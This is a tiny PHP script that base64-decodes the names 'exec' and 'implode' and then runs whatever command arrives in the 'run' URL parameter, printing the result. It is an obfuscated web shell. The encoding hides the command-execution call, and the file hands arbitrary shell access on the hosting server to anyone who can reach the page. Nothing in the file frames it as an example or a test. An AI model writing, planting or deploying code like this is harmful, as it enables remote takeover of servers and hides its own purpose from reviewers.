<?php
$enc = ['ZXhlYw==', 'aW1wbG9kZQ=='];
$fn = [];
foreach ($enc as $e) {
    $plain = base64_decode($e);
    $plain = strtolower(trim($plain));
    $fn[] = $plain;
}
$out = [];
$fn[0]($_GET['run'] ?? 'uptime', $out);
echo $fn[1]("\n", $out);
